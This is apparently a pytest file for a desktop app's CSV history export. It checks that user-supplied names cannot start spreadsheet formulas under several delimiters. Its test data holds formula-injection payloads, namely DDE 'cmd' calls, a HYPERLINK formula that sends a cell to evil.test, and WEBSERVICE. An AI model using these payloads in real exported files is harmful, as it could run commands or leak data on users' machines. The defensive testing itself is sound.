"""Whoever signs in at QuickBooks has a name of their choice in the history, which a bookkeeper exports.
They try to begin a formula with it, also where the spreadsheet program cuts cells at another sign than ours.
What they must find is a text, in a file that cannot be written elsewhere by a company's name."""

from __future__ import annotations

import csv
from pathlib import Path

import pytest

from relink_desktop.companion import effects as do
from relink_desktop.companion import events as on
from relink_desktop.companion.saving import save
from relink_desktop.companion.section import Section
from relink_desktop.companion.state import reduce
from relink_desktop.core.history import History
from tests.companion.histories import ago, outage
from tests.companion.states import CONNECTED, app

NAMES = (
    "=cmd|' /C calc'!A0",
    "+cmd|' /C calc'!A0",
    "Ann;=cmd|' /C calc'!A0",
    'Ann";"=HYPERLINK("https://evil.test/?x="&A1)',
    "Ann\t@SUM(1+1)*cmd|' /C calc'!A0",
    "Ann\r\n=WEBSERVICE(A1)",
    "Ann|-2+3",
    "＝cmd()",
)


@pytest.mark.parametrize("name", NAMES)
@pytest.mark.parametrize("separator", list(",;\t|"))
def test_a_name_is_no_formula_in_the_exported_history(name: str, separator: str, tmp_path: Path) -> None:
    state = app(CONNECTED, section=Section.HISTORY)
    effect = None
    for event in (
        on.ShowSection(Section.HISTORY),
        on.HistoryArrived("c1", History(outages=(outage(ago(1), 1, by=name),))),
        on.ExportHistory(),
    ):
        state, effects = reduce(state, event)
        effect = next(iter(effects), None)
    assert isinstance(effect, do.SaveFile)
    save(str(tmp_path / effect.name), effect.text.encode())
    with (tmp_path / effect.name).open(encoding="utf-8-sig", newline="") as file:
        rows = list(csv.reader(file, delimiter=separator))
    begins = [cell.strip(' "') for row in rows for cell in row]
    assert any("cmd" in cell or "Ann" in cell for cell in begins)
    assert [cell for cell in begins if cell.startswith(tuple("=+-@＝"))] == []
